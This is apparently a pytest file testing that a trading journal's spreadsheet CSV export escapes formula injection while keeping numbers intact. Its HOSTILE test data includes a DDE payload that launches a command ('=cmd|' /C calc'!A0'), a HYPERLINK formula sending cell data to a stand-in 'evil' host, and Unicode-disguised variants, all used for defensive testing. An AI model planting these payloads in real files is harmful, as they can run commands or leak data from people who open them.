"""The export for spreadsheets: no cell of it is taken for a formula, and numbers stay numbers."""

import csv
import io
import unicodedata
from pathlib import Path

import factories
import pytest
from commands import import_file, new_key, run_failing, run_ok, running
from factories import Client, details_of, error_of
from hypothesis import example, given
from hypothesis import strategies as st
from saved_journals import for_rows

from journal_api.imports.spreadsheets import harmless
from journal_api.trade_files.formats.round_trips import COLUMNS, TITLES

SIGNS = "=+-@"
HOSTILE = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&A1)'),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20A", "\u22121"),
    *(' "=1', '"=1"', "\u00a0=1", "\u200b=1", "\ufeff=1", '"" +1'),
    *("a;=1", "a; =1", 'a;"=1"', "a;b;-1", ";=1"),
]
# What a name may not have, and a note may.
HOSTILE_NOTES = [*HOSTILE, *("\t=1", "\r=1", "\n=1", "\ta", "\ra", "\na", "a\n=1", "a\r\n=1", "a\t=1", "a\t\n ;=1")]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet could take it for one, whatever it passes over at the beginning."""
    passed = [one for one in cell if not (one.isspace() or one == '"' or unicodedata.category(one)[0] == "C")]
    return bool(passed) and (unicodedata.normalize("NFKC", passed[0]) in SIGNS or passed[0] == "\u2212")


def cells_of(file: str) -> list[str]:
    """All that any spreadsheet could read as a cell of it, whatever it takes for the separator."""
    found = [cell for row in csv.reader(io.StringIO(file, newline="")) for cell in row]
    for delimiter in ";\t":
        for line in file.splitlines():
            found += next(csv.reader([line], delimiter=delimiter), [])
            found += line.split(delimiter)
    return found


def one_cell(text: str) -> str:
    written = io.StringIO()
    csv.writer(written).writerow(["1", text, "x"])
    return written.getvalue()


TRICKY = st.sampled_from("=+-@\uff1d\uff0b;\"' \t\r\n\x00\x0b\x1c\x85\u2028\u200b\u00a0,a1")


@given(st.text(TRICKY) | st.text())
@example("\ud7a4=")  # a code point that Unicode does not assign
def test_no_cell_of_any_text_is_taken_for_a_formula_and_only_apostrophes_are_added(text: str) -> None:
    told = harmless(text)

    assert [cell for cell in cells_of(one_cell(told)) if is_formula(cell)] == []
    assert not told.startswith(("\t", "\r", "\n"))
    assert told.replace("'", "") == text.replace("'", "")


@for_rows("text", ["", "ES", "A+", "2026-01-05T14:00:00.000000Z", "a-b", "1 + 1 = 2", "FOMO;Chased", "a, -1", '["a"]'])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.fixture
async def hostile(client: Client) -> Client:
    """A journal in which every text is one that a spreadsheet would take for a formula."""
    for number, text in enumerate(HOSTILE):
        account = await factories.create_account(client, text)
        asked = [{"name": text}]
        strategy = await factories.create_strategy(client, text, setups=[{"name": text, "confirmations": asked}])
        setup = strategy["setups"][0]
        trade = await factories.create_trade(
            client, account["id"], symbol=text, external_id=text, notes=text, setup_id=setup["setup_id"],
            gross_pnl=-number - 0.5,
        )  # fmt: skip
        tag = await factories.create_tag(client, text)
        await client.put(f"/trades/{trade['id']}/tags", json={"tag_ids": [tag["id"]]})
        answer = {"confirmation_id": setup["confirmations"][0]["confirmation_id"], "was_present": True, "notes": text}
        await client.put(f"/trades/{trade['id']}/confirmations", json={"confirmations": [answer]})
    for note in HOSTILE_NOTES:
        await factories.create_trade(client, account["id"], notes=note)
    return client


async def test_no_text_of_the_export_for_spreadsheets_is_taken_for_a_formula_and_numbers_stay(hostile: Client) -> None:
    exact, told = await factories.export(hostile), await factories.export(hostile, spreadsheet="true")

    exact_rows = list(csv.reader(io.StringIO(exact, newline="")))
    told_rows = list(csv.reader(io.StringIO(told, newline="")))
    amount = COLUMNS.index("gross_pnl")
    formulas = {cell for cell in cells_of(told) if is_formula(cell)}
    assert [row[amount] for row in told_rows[1:]] == [row[amount] for row in exact_rows[1:]]
    assert formulas == {row[amount] for row in told_rows[1:] if row[amount].startswith("-")}
    assert [cell for row in exact_rows for cell in row if cell.startswith("=")]
    again, refused = await factories.send_file(hostile, exact), await factories.send_file(hostile, told)
    assert again.json()["data"]["import"]["counts"]["new"] == 0
    assert error_of(refused) == (400, "validation_error")
    assert details_of(refused)["reason"].startswith("this is the export for spreadsheets")
    assert told.splitlines()[0] == ",".join(TITLES)


def test_the_command_exports_what_the_service_does_and_keeps_what_is_there(tmp_path: Path) -> None:
    db, file = tmp_path / "journal.db", tmp_path / "trades.csv"
    source = tmp_path / "source.csv"
    header = "symbol,direction,quantity,entry_price,opened_at\n"
    source.write_text(header + "=1+1,long,1,-1,2026-01-05T14:00:00Z\n")
    import_file(db, source)
    import_file(db, source, account="Other")

    told = run_ok("export", file, "--account", "Sim", "--db", db)
    run_ok("export", tmp_path / "all.csv", "--spreadsheet", "--db", db)
    again = run_failing("export", file, "--db", db)
    unknown = run_failing("export", tmp_path / "none.csv", "--account", "None", "--db", db)
    with running(db) as server, server.client(new_key(db)) as owner:
        answers = [
            owner.get("/trades/export", params=query).text for query in ({"account_id": 1}, {"spreadsheet": "true"})
        ]

    assert told == f"Exported to {file}\n"
    assert "File exists" in again
    assert unknown == "journal-api: there is no account 'None'"
    assert not (tmp_path / "none.csv").exists()
    assert [file.read_bytes().decode(), (tmp_path / "all.csv").read_bytes().decode()] == answers
    assert "'=1+1" in answers[1]
